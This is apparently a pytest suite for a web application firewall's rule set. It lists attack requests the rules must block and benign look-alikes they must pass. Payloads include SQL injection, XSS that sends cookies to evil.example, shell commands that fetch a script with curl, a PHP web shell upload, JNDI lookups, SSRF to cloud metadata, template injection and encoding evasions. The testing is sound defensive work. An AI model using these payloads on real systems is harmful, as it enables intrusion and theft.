"""rules/default.yaml: attacks of every class must block (with their tag); hard negatives must not.

The payloads are written for this test (not copied from the corpus), in the contexts real requests carry
them: query and form values, JSON fields, headers, cookies, paths, uploads and XML bodies.
"""

import base64
import gzip
import json
from urllib.parse import quote, quote_plus

import pytest

from engine.features import Features
from engine.fields import request_fields
from engine.verdict import Source
from rules.embed import BROWSER_UA
from rules.engine import RuleEngine
from rules.targets import PER_KIND
from tests.factories import padding_leaves

UA = ("User-Agent", BROWSER_UA)


@pytest.fixture(scope="module")
def engine():
    return RuleEngine.load()


def q(value: str, name: str = "q", path: str = "/search") -> Features:
    return Features.build("GET", path, query=f"{name}={quote(value, safe='')}", headers=[UA])


def form(value: str, name: str = "comment") -> Features:
    body = f"title=hello&{name}={quote_plus(value)}"
    return Features.build("POST", "/comments", body=body, headers=[UA, ("Content-Type", "application/x-www-form-urlencoded")])


def js(obj) -> Features:
    return Features.build("POST", "/api/items", body=json.dumps(obj), headers=[UA, ("Content-Type", "application/json")])


def hdr(name: str, value: str, path: str = "/") -> Features:
    headers = [UA] if name.lower() != "user-agent" else []
    return Features.build("GET", path, headers=headers + [(name, value)])


def raw(method: str, path: str, headers=(), body: str = "") -> Features:
    return Features.build(method, path, headers=[UA, *headers], body=body)


def upload(content: str, filename: str = "avatar.png") -> Features:
    body = (
        f'--X\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        f"Content-Type: image/png\r\n\r\n{content}\r\n--X--\r\n"
    )
    return Features.build("POST", "/upload", body=body, headers=[UA, ("Content-Type", "multipart/form-data; boundary=X")])


XML = "application/xml"

ATTACKS = [
    ("sqli", q("7' OR '2'='2' -- ")),
    ("sqli", q("-3 UNION ALL SELECT login, pass_hash FROM accounts")),
    ("sqli", q("10; DROP TABLE orders--", name="id")),
    ("sqli", q("x' AND SLEEP(7)#")),
    ("sqli", hdr("Cookie", "uid=5' or 3=3#")),
    ("sqli", js({"filter": "name') or ('q'='q"})),
    ("xss", q("<script>alert(document.domain)</script>")),
    ("xss", q('"><img src=x onerror=alert(7)>', name="name")),
    ("xss", form("<svg/onload=confirm`1`>")),
    ("xss", q("javascript:alert(document.cookie)", name="next")),
    ("rce", q("10.0.0.9; cat /etc/hostname", name="host")),
    ("rce", q("a|whoami", name="file")),
    ("rce", hdr("User-Agent", "() { :; }; /bin/bash -c 'ping -c 2 evil.example'")),
    ("rce", q("`sleep 9`")),
    ("rce", upload("<?php echo shell_exec($_REQUEST['x']); ?>", "img.php")),
    ("rce", q("__import__('os').popen('id').read()")),
    ("rce", q("${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}")),
    ("rce", q("%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}")),
    ("rce", js({"code": "require('child_process').execSync('cat /etc/hostname')"})),
    ("rce", q("|| phpinfo()", name="email")),
    ("rce", q("cat `xxd -r -p <<< 2f6574632f706173737764`", name="template_text")),
    ("traversal", q("../../../../etc/passwd", name="file")),
    ("traversal", raw("GET", "/static/..%2f..%2f..%2fetc/shadow")),
    ("traversal", q("..\\..\\..\\windows\\win.ini", name="template")),
    ("traversal", q("....//....//....//etc/group", name="page")),
    ("traversal", q("../config.js", name="theme")),  # one folder up, to a file that is no stylesheet or image
    ("ssrf", q("http://169.254.169.254/latest/meta-data/iam/", name="url")),
    ("ssrf", q("http://127.0.0.1:9200/_cat/indices", name="webhook")),
    ("ssrf", q("gopher://localhost:6379/_FLUSHALL", name="url")),
    ("ssrf", q("http://http:127.0.0.1", name="feed")),
    ("ssrf", q("http://127.0.0.1/example.com", name="url")),
    ("ssrf", q("http://localhost:9001/2018-06-01/runtime/invocation/next", name="source")),
    ("ssrf", js({"avatar_url": "http://[::1]:8080/admin"})),
    ("xxe", raw("POST", "/api/import", [("Content-Type", XML)],
                '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>')),
    ("xxe", raw("POST", "/soap", [("Content-Type", XML)],
                '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><d/>')),
    ("ssti", q("{{7*7}}", name="name")),
    ("ssti", q("{% csrf_token %}", name="code")),
    ("ssti", q("{{'a'.toUpperCase()}}", name="author")),
    ("ssti", q('{var $X="POC"}{$X}', name="from")),
    ("ssti", q("{{ cycler.__init__.__globals__.os.popen('id').read() }}", name="name")),
    ("ssti", form("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}")),
    ("nosqli", Features.build("GET", "/login", query="user=admin&pass%5B%24ne%5D=x", headers=[UA])),
    ("nosqli", js({"user": "admin", "pass": {"$gt": ""}})),
    ("nosqli", q("'; return true; var z='", name="user")),
    ("ldapi", q("*)(uid=*))(|(uid=*", name="user")),
    ("xpathi", q("' or count(/*)=1 or 'a", name="user")),
    ("jndi", hdr("User-Agent", "${jndi:ldap://evil.example:1389/a}")),
    ("jndi", hdr("X-Api-Version", "${${lower:j}${upper:n}di:${lower:r}mi://evil.example/x}")),
    ("jndi", q("${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/q}")),
    ("crlf", raw("GET", "/%0d%0aSet-Cookie:%20admin=1")),
    ("crlf", q("en\r\nLocation: https://evil.example/", name="lang")),
    ("scanner", hdr("User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)")),
    ("scanner", raw("GET", "/.git/config")),
    ("scanner", raw("GET", "/.env")),
    ("scanner", raw("GET", "/phpmyadmin/index.php")),
    ("rfi", q("http://evil.example/c.txt?", name="include")),
    ("rfi", q("\\\\evil.example\\share\\x.php", name="page")),
    ("deserialization", hdr("Cookie", 'prefs=O:8:"UserPref":1:{s:5:"theme";s:4:"dark";}')),
    ("deserialization", js({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://evil.example/a"})),
    ("deserialization", raw("POST", "/config", [("Content-Type", "application/yaml")],
                            "settings: !!python/object/apply:os.system ['id']")),
    ("prototype_pollution", Features.build("GET", "/", query="__proto__%5BisAdmin%5D=1", headers=[UA])),
    ("prototype_pollution", js({"__proto__": {"isAdmin": True}})),
    ("prototype_pollution", js({"constructor": {"prototype": {"polluted": 1}}})),
    ("graphql", js({"query": "query { __schema { types { name fields { name } } } }"})),
    ("graphql", js({"query": "{" + " ".join(f"a{i}: login(user: \"u\", pass: \"p{i}\") {{ token }}" for i in range(40)) + "}"})),
    ("protocol", raw("POST", "/", [("Transfer-Encoding", "chunked"), ("Content-Length", "4")], "0\r\n\r\n")),
    ("protocol", raw("POST", "/", [("Transfer-Encoding", " chunked\x0b")], "0\r\n\r\n")),
    ("protocol", raw("GET", "/cgi/app", [("Proxy", "http://evil.example:3128")])),
    ("protocol", raw("TRACE", "/")),
    ("mail_injection", form("me@example.com\r\nBcc: everyone@example.org", name="email")),
    ("session_fixation", q('<meta http-equiv="Set-Cookie" content="SID=abc123; path=/">')),
    ("open_redirect", q("//evil.example/login", name="next")),
    ("open_redirect", q("https:evil.example", name="return")),
    ("format_string", Features.build("GET", "/search", query="q=%25x%25x%25x%25x%25n", headers=[UA])),
    ("ssi", q('<!--#exec cmd="cat /etc/hostname" -->')),
    # evasions: base64 in a parameter, a percent-encoded path written in fullwidth, a redirect behind a site path
    ("xss", q(base64.b64encode(b"<script>alert(document.domain)</script>").decode(), name="data")),
    ("xss", hdr("Cookie", "prefs=" + base64.b64encode(b"\"><svg onload=alert(3)>").decode())),
    ("traversal", q("\uff05\uff12\uff45\uff05\uff12\uff45\uff05\uff12\uff46" * 3 + "etc\uff05\uff12\uff46passwd", name="file")),
    ("open_redirect", q("//evil\u3002example", name="next")),
    # a body in a foreign charset: read decoded (UTF-16, EBCDIC), and EBCDIC or UTF-7 declared at all
    ("sqli", raw("POST", "/api/search", [("Content-Type", "application/json; charset=utf-16")], json.dumps({"q": "1' union select password from users--"}).encode("utf-16"))),
    ("protocol", raw("POST", "/login", [("Content-Type", "application/x-www-form-urlencoded; charset=ibm037")], "user=%89%95%97%A4%A3")),
    ("protocol", raw("POST", "/api/notes", [("Content-Type", "application/json; charset=utf-7")], '{"note": "+ADw-b+AD4-hi"}')),
    ("sqli", raw("POST", "/api/search", [("Content-Type", "application/json")], '{"q": "1\' union select password from users--", "q": "shoes"}')),  # a key given twice
    ("sqli", raw("POST", "/api/search", [("Content-Type", "application/json"), ("Content-Encoding", "gzip")], gzip.compress(json.dumps({"q": "1' union select password from users--"}).encode()))),
    ("protocol", raw("POST", "/upload", [("Content-Type", "multipart/form-data; boundary=a; boundary=b")], "--b\r\n\r\nx\r\n--b--\r\n")),
    ("sqli", raw("POST", "/upload", [("Content-Type", "multipart/form-data; boundary=b")],
                 '--b\r\nContent-Disposition: form-data; name="t"\r\n\r\nhi\r\n--b--\r\n--a\r\nContent-Disposition: form-data; name="q"\r\n\r\n1\' union select password from users--\r\n--a--\r\n')),  # parts in the epilogue
    ("sqli", raw("POST", "/api/search", [("Content-Type", "application/x-www-form-urlencoded; charset=utf-16")], "q=1'+union+select+password+from+users--")),  # ASCII declared UTF-16
    ("protocol", raw("POST", "/api/search", [("Content-Type", "application/json"), ("Content-Encoding", "br")], b"\x1b\x2f\x00\xf8noise")),  # a coding the engine cannot read
    # a field after 4,096 padding fields (engine.fields.REST): read, not dropped
    ("sqli", raw("POST", "/api/import", [("Content-Type", "application/json")], json.dumps({"pad": [1] * 4100, "q": "1' union select password from users--"}))),
    ("sqli", raw("POST", "/search", [("Content-Type", "application/x-www-form-urlencoded")], "&".join(["a=1"] * 4100) + "&q=1'+union+select+password+from+users--")),
    # the same, large (> 64 KiB: one unit, read by rules.targets._large_body) with a zero byte put in to look the part
    ("xss", raw("POST", "/api/comments", [("Content-Type", "application/x-www-form-urlencoded; charset=utf-16")],
                b"comment=<script>document.location='//evil.example/?c='+document.cookie</script>&pad=\x00" + b"a" * 70_000)),
    ("sqli", raw("POST", "/api/search", [("Content-Type", "text/plain")], json.dumps({"q": "1' union select password from users--"}))),  # JSON under text/plain
    ("sqli", raw("POST", "/api/search", [("Content-Type", "application/json"), ("Content-Encoding", "deflate")], gzip.compress(json.dumps({"q": "1' union select password from users--"}).encode()))),  # gzip labelled deflate
    # a multipart part read as its own headers say: quoted-printable every byte, its charset, the form's _charset_
    ("sqli", raw("POST", "/profile", [("Content-Type", "multipart/form-data; boundary=b")],
                 b'--b\r\nContent-Disposition: form-data; name="bio"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n'
                 + "".join(f"={c:02X}" for c in b"1' union select password from users--").encode() + b"\r\n--b--\r\n")),
    ("sqli", raw("POST", "/profile", [("Content-Type", "multipart/form-data; boundary=b")],
                 b'--b\r\nContent-Disposition: form-data; name="bio"\r\nContent-Type: text/plain; charset=ibm037\r\n\r\n'
                 + "1' union select password from users--".encode("cp037") + b"\r\n--b--\r\n")),
    ("xss", raw("POST", "/profile", [("Content-Type", "multipart/form-data; boundary=b")],
                b'--b\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\nutf-16le\r\n--b\r\nContent-Disposition: form-data; name="bio"\r\n\r\n'
                + '"><svg onload=alert(document.cookie)>'.encode("utf-16-le") + b"\r\n--b--\r\n")),
    # written in fullwidth and percent-encoded, nine characters a character as sent: still short values as read
    ("rce", q("".join(chr(ord(c) + 0xFEE0) if c != " " else "\u3000" for c in "| netsh firewall set opmode disable"), name="host")),
    ("traversal", q("".join(chr(ord(c) + 0xFEE0) for c in "/private/etc/httpd/httpd.conf.default"), name="file")),
    ("sqli", q("".join(chr(ord(c) + 0xFEE0) if c != " " else "\u3000" for c in "1' and 6510=(select count(*) from sysusers as sys1,sysusers as sys2)--"), name="id")),
    ("sqli", q("1'/**/wh/**/ere/**/6406=6406;sel/**/ect/**/count(*)/**/fr/**/om/**/users--", name="id")),
    ("deserialization", form("".join(chr(ord(c) + 0xFEE0) for c in base64.b64encode(b'O:8:"stdClass":1:{s:1:"a";s:1:"b";}').decode()), name="state")),
    ("open_redirect", q("/redirect?to=//evil.example&next=//evil.example", name="return")),
    ("rce", upload("<?php\nif (isset($_REQUEST['c'])) { echo shell_exec($_REQUEST['c']); }\n", "thumb.php")),
    # short payloads in base64: a whole value of one padded token under 12 characters, padding as sent or encoded
    ("format_string", q(base64.b64encode(b"%s%s%s%s").decode(), name="session")),
    ("rce", form(base64.b64encode(b";id|").decode(), name="context")),
    ("xxe", Features.build("GET", "/find", query="token=" + base64.b64encode(b"%foo;").decode().replace("=", "%3D"), headers=[UA])),
    # a bare query argument (no `=`) that is data, not a flag: read as a value
    ("traversal", Features.build("GET", "/faxsurvey", query="cat%20/etc/passwd", headers=[UA])),
    ("traversal", Features.build("GET", "/viewsource", query="/etc/passwd", headers=[UA])),
    # files no site serves on purpose: database dumps in archives, shell histories, password lists, script
    # source asked for with a trailing `+`, `.`, space or `::$DATA`, and the servlet container's WEB-INF
    ("scanner", raw("GET", "/backup.sql.gz")),
    ("scanner", raw("GET", "/app/dump.sql.r02")),
    ("scanner", raw("GET", "/db.sqlite_history")),
    ("scanner", raw("GET", "/passwords.txt")),
    ("scanner", raw("GET", "/members/spwd.db")),
    ("scanner", raw("GET", "/admin/cfg/configsite.inc.php+")),
    ("scanner", raw("GET", "/index.php%20")),
    ("scanner", raw("GET", "/default.asp::$DATA")),
    ("scanner", raw("GET", "/WEB-INF./web.xml")),
    # a body declared JSON that does not parse is read by argument rules too
    ("nosqli", raw("POST", "/api/login", [("Content-Type", "application/json")], '{"username": {"$gt": undefined}, "password": {"$gt": undefined}}')),
    # server-side JavaScript as a whole value ($where), and operator objects inside a JSON string (GraphQL arguments)
    ("nosqli", q("function(){return version()}", name="nickname")),
    ("nosqli", js({"theme": "function() { sleep(5000) }"})),
    ("nosqli", raw("POST", "/graphql", [("Content-Type", "application/json")],
                   json.dumps({"query": '{ doctors(search: "{ \\"patients.ssn\\": { \\"$regex\\": \\".*\\"} }") { name } }'}))),
    # command separators with spaces between them; a command word with shell-like arguments
    ("rce", q("&& | dir c:\\")),
    ("rce", q("1 && curl http://evil.example/x.sh")),
    ("rce", q("x; cat flag.txt")),
    ("rce", q("& ping -n 10 127.0.0.1")),
    # template filters handed a callable, and object paths to a runtime
    ("ssti", q("{{ {'id':'shell_exec'}|map('call_user_func')|join }}")),
    ("ssti", q("{% for a in [\"error_reporting\", \"1\"]|sort(\"ini_set\") %}{% endfor %}")),
    ("ssti", form("- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')")),
    ("ssti", q('<%= [1, 2][elem(System.shell("id"), 0)] %>')),
    ("ssti", q("{{364|add:733}}")),
    ("rce", q("$&&dir c:\\")),
    ("rce", q('" ping.exe -n 31 127.0.0.1')),
    ("rce", q("ls -l /var/www/*")),
    ("rce", q("$(`ls`)")),
    ("rce", q("echo whoami|$0")),
    ("rce", q("chrome '--gpu-launcher=\"id>/tmp/foo\"'")),
    ("xss", q("<x onxxx=1")),
    # internal hosts: an ideographic full stop is a dot in a URL's host; .internal and .localhost names
    ("ssrf", q("http://\u24ea\u2461\u2464\u2460\u3002\u24ea\u2462\u2466\u2465\u3002\u24ea\u2461\u2464\u2460\u3002\u24ea\u2462\u2466\u2465", name="feed")),
    ("ssrf", q("http://host.containers.internal/", name="endpoint")),
    ("ssrf", q("http://example.com.localhost", name="feed")),
    # a whole value that is a Windows or network recon command, and a bare parent folder
    ("rce", q("tasklist")),
    ("rce", q("tasklist /v /fo csv")),
    ("rce", q("netstat -ano | findstr 3389")),
    ("traversal", q("..", name="dir")),
    # under a CGI folder, the shells, interpreters and classic vulnerable scripts probes ask for; an editor's connector
    ("scanner", raw("GET", "/cgi-bin/test-cgi")),
    ("scanner", raw("GET", "/cgi-bin/php5")),
    ("scanner", raw("GET", "/cgi-bin//bash")),
    ("scanner", raw("GET", "/fckeditor/editor/filemanager/connectors/php/upload.php")),
    ("scanner", raw("GET", "/js/elfinder/php/connector.minimal.php")),
]


@pytest.mark.parametrize("tag,features", ATTACKS, ids=[f"{t}-{i}" for i, (t, _) in enumerate(ATTACKS)])
def test_attack_blocks(engine, tag, features):
    verdict = engine.evaluate(features)
    assert verdict.label == "block", engine.explain(features)
    assert tag in verdict.features
    assert verdict.source is Source.RULES and verdict.confidence >= 0.75


def test_every_attack_tag_is_covered():
    from engine.labels import ATTACK_FEATURES

    assert {t for t, _ in ATTACKS} == set(ATTACK_FEATURES)


DOC_SQL = "To combine rows use\n\nSELECT name FROM customers\nUNION\nSELECT name FROM suppliers\nORDER BY name;"
DOC_SHELL = "Install with:\n\n    curl -fsSL https://get.example.com/install.sh | sh\n\nThen clean up: rm -rf ./build && npm ci"
DOC_PHP = "A minimal page:\n\n<?php\n$name = htmlspecialchars($_POST['name'] ?? '');\necho \"Hello, $name\";\n?>\n"
DOC_HTML = (
    "Load the widget after the page body. Put this tag just before the closing body tag so it does not "
    'block rendering:\n\n<script src="https://cdn.example.com/widget/2.1/widget.min.js" defer></script>\n\n'
    "The widget reads its options from data attributes on the container."
)
LONG_DOC = (
    "## Handling clicks\n\nA first example shows the classic way, which you should not copy into real code:\n\n"
    '<script>alert("hi")</script>\n\nOn Linux the hosts file is /etc/hosts; on Windows it is '
    "C:\\Windows\\System32\\drivers\\etc\\hosts. Templates print values with {{ . }} inside "
    "{{ range $files }} blocks, and a server-side include looks like <!--#exec cmd=\"ls\" -->.\n\n"
    + "Each section then walks through the component, its props and its state, step by step. " * 120
)
DOC_HELM = 'image: "{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}"'

BENIGN = [
    ("name", q("O'Brien", name="last_name")),
    ("apostrophes", form("Let's meet at 5 o'clock; bring the 'A' team and Mary's notes.")),
    ("sql-question", q("how to drop table if exists in postgres")),
    ("windows-1252", raw("POST", "/comments", [("Content-Type", "application/x-www-form-urlencoded; charset=windows-1252")], "comment=Caf%E9+au+lait%2C+s%27il+vous+pla%EEt")),
    ("utf-16-prose", raw("POST", "/api/comments", [("Content-Type", "application/json; charset=utf-16")], json.dumps({"comment": "Where is my order? I selected express delivery."}).encode("utf-16"))),
    ("utf-16-part", raw("POST", "/profile", [("Content-Type", "multipart/form-data; boundary=b")],
                        b'--b\r\nContent-Disposition: form-data; name="bio"\r\nContent-Type: text/plain; charset=utf-16\r\n\r\n'
                        + "Siobhán O'Connor, 5' 4\", likes select cheeses & union jacks".encode("utf-16") + b"\r\n--b--\r\n")),
    ("gzip-json", raw("POST", "/api/comments", [("Content-Type", "application/json"), ("Content-Encoding", "gzip")], gzip.compress(json.dumps({"comment": "Where is my order? I selected express delivery."}).encode()))),
    ("json-text-plain", raw("POST", "/api/comments", [("Content-Type", "text/plain;charset=UTF-8")], json.dumps({"comment": "Let's meet at 5 o'clock; bring the 'A' team."}))),
    ("sql-docs", form(DOC_SQL)),
    ("sql-docs-json", js({"title": "union", "content": DOC_SQL})),
    ("shell-docs", js({"content": DOC_SHELL})),
    ("php-docs", form(DOC_PHP)),
    ("html-docs", form(DOC_HTML)),
    ("helm", js({"content": DOC_HELM})),
    ("vue", form("<p>{{ message }}</p> and {{ user.name | capitalize }}")),
    ("markdown-link", form("See [the guide](../guide/install.md) and [FAQ](../../faq.md#proxy).")),
    ("theme-one-folder-up", q("../article.css", name="theme")),
    ("dev-callback", q("http://localhost:3000/callback", name="redirect_uri")),
    ("jinja-include-docs", q("{% include 'header.html' %}")),
    ("vue-call", q("{{ formatDate(post.date) }}")),
    ("phpinfo-prose", q("run phpinfo() to see the loaded modules")),
    ("email", q("john.doe+news@example.com", name="email")),
    ("percent", q("50% off, 100% cotton")),
    ("oauth", Features.build("GET", "/oauth/authorize", headers=[UA],
                             query="response_type=code&client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&state=xyz")),
    ("api", Features.build("GET", "/api/v1/users/123/orders", query="page=2&sort=-created_at&fields=id,total", headers=[UA])),
    ("json-api", js({"user": {"id": 42, "email": "a@example.com", "tags": ["x", "y"], "address": {"city": "Lyon"}}})),
    ("graphql", js({"query": "query Order($id: ID!) { order(id: $id) { id lines { product { name } quantity } } }",
                    "variables": {"id": "T3JkZXI6MQ=="}})),
    ("json-tokens", js({"status": "deleted", "field": "id", "kind": "object", "words": ["union", "select", "1", "sleep"]})),
    ("jwt-cookie", hdr("Cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl; theme=dark")),
    ("googlebot", hdr("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")),
    ("static", raw("GET", "/static/js/app.3f2a1c.js")),
    ("windows-path", form("Open C:\\Program Files\\Example\\settings.ini and set Port=8080")),
    ("search-words", q("select the best union jobs near me")),
    ("chunked-upload", raw("POST", "/upload", [("Transfer-Encoding", "chunked")], "5\r\nhello\r\n0\r\n\r\n")),
    ("multipart", upload("\x89PNG\r\n\x1a\n" + "\x00" * 64, "photo.png")),
    # documents and code that people post, and site paths: what the rules used to block (rules/default.yaml)
    ("php-file-upload", upload("<?php\n$link = mysqli_connect('db', 'app', 'secret');\necho 'connected';\n", "db.php")),
    ("code-comment", form("// webpack.config.js\nmodule.exports = { mode: 'production' };")),
    ("sql-comment", form("SELECT id /* the key */, name FROM users /* all of them */ WHERE active = 1;")),
    ("fullwidth-text", form("ＡＢＣ株式会社の新しいカタログ、ＰＤＦ版はこちら")),
    ("spa-config", raw("GET", "/app/config.json")),
    ("site-path-and-dest", Features.build("GET", "/login", headers=[UA],
                                          query="next=%2Faccount%2Forders&dest=https%3A%2F%2Fshop.example.net%2Fdashboard")),
    ("git-url", js({"repository": {"ssh_url": "ssh://git@localhost:3035/acme/site.git"}})),
    ("tutorial", js({"content": LONG_DOC})),
    ("tutorial-form", form(LONG_DOC, name="body")),
    ("short-base64", q("dGVzdA==", name="state")),  # a padded token that decodes to a word: read, nothing found
    ("short-base64-ids", js({"ids": ["T3JkZXI6MQ==", "VXNlcjo0Mg==", "YWJjZA=="], "etag": "W/\"5e-Xq3k=\""})),
    ("bare-flags", Features.build("GET", "/page", query="edit&print&id", headers=[UA])),
    ("bare-route", Features.build("GET", "/index.php", query="/blog/2024/05/select-union-jobs", headers=[UA])),
    ("bare-javadoc", Features.build("GET", "/doc/index.html", query="org/example/action/search/SearchResponse.html", headers=[UA])),
    ("site-files", raw("GET", "/downloads/app-1.2.3.tar.gz")),
    ("search-history-api", raw("GET", "/api/v1/search_history")),
    ("c++-tag", raw("GET", "/tags/c++")),
    ("broken-json", raw("POST", "/api/notes", [("Content-Type", "application/json")], '{"note": "price is $5, see you at 5", }')),
    ("search-and-cat", q("dogs & cat toys")),
    ("search-and-net", q("gross & net salary calculator")),
    ("search-and-id", q("tips & id cards")),
    ("search-and-ping", q("hello & ping me later")),
    ("search-and-curl", q("hair & curl cream")),
    ("cjk-prose-url", form("\u6771\u4eac\u306e\u5929\u6c17\u3002http://example.com/\u3002\u3042\u308a\u304c\u3068\u3046\u3002")),
    ("price-and-cat", q("price $5 & cat food")),
    ("ping-pong", q("ping pong table for sale")),
    ("django-add-filter", form('Total: {{ value|add:"2" }} items')),
    ("tasklist-question", q("tasklist explained")),
    ("netstat-question", q("netstat -p output?")),
    ("ellipsis-only", q("..............", name="s")),
    ("js-docs-function", form("Pass a callback: setTimeout(function() { return done(); }, 10) runs it later.")),
    ("js-function-in-post", js({"content": "```js\nconst f = function() { return version; };\nexport default f;\n```"})),
    ("mongo-docs-prose", form("In MongoDB, $regex matches strings and $ne means not equal; see the query operators page.")),
    ("jwt-param", q("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjMiLCJuYW1lIjoiQW5uYSJ9.c2lnbmF0dXJlLXNpZ25hdHVyZQ", name="token")),
    # CGI applications of a site's own, and an editor's scripts that pages load (rules version 15)
    ("koha-search", raw("GET", "/cgi-bin/koha/opac-search.pl?q=select+committee+report&idx=kw")),
    ("mailman-listinfo", raw("GET", "/cgi-bin/mailman/listinfo/users")),
    ("bugzilla-buglist", raw("GET", "/cgi-bin/bugzilla/buglist.cgi?quicksearch=crash+on+startup")),
    ("viewvc-log", raw("GET", "/cgi-bin/viewvc.cgi/project/trunk/src/main.c?view=log")),
    ("awstats-report", raw("GET", "/cgi-bin/awstats.pl?config=www.example.org&output=main")),
    ("tinymce3-plugin", raw("GET", "/js/tiny_mce/plugins/table/editor_plugin.js")),
    ("ckfinder-script", raw("GET", "/assets/ckfinder/ckfinder.js")),
    ("joomla-unrewritten-url", raw("GET", "/index.php/component/content/article/12-news")),
]


@pytest.mark.parametrize("name,features", BENIGN, ids=[n for n, _ in BENIGN])
def test_hard_negative_passes(engine, name, features):
    verdict = engine.evaluate(features)
    assert verdict.label != "block", engine.explain(features)


PROSE = padding_leaves(PER_KIND + 50)  # past PER_KIND: a run


def _arg_values() -> list[str]:
    out = []
    for _, f in ATTACKS:
        out += [fl.value for fl in request_fields(f) if fl.kind in ("query", "form", "json") and fl.value]
    return list(dict.fromkeys(out))


def test_a_value_behind_hundreds_meets_the_rules_it_meets_on_its_own(engine):
    """Each argument value of the attacks above, placed last in a JSON document behind more than PER_KIND others
    (a run, read by the rules alone), meets every pattern rule on arguments that it meets as the document's only
    value: anchors, exemptions and comments included (rules/plans.joined_pattern, Operator.verify)."""
    values = _arg_values()
    assert len(values) > 100
    on_args = {r.id for r in engine.rules if "args" in r.targets and r.operator.pattern is not None and not r.chain}
    missed = {}
    for v in values:
        alone = set(engine.scan(js({"k": v})).rules) & on_args
        behind = set(engine.scan(js(PROSE + [{"k": v}])).rules)
        if alone - behind:
            missed[v] = sorted(alone - behind)
    assert not missed, missed
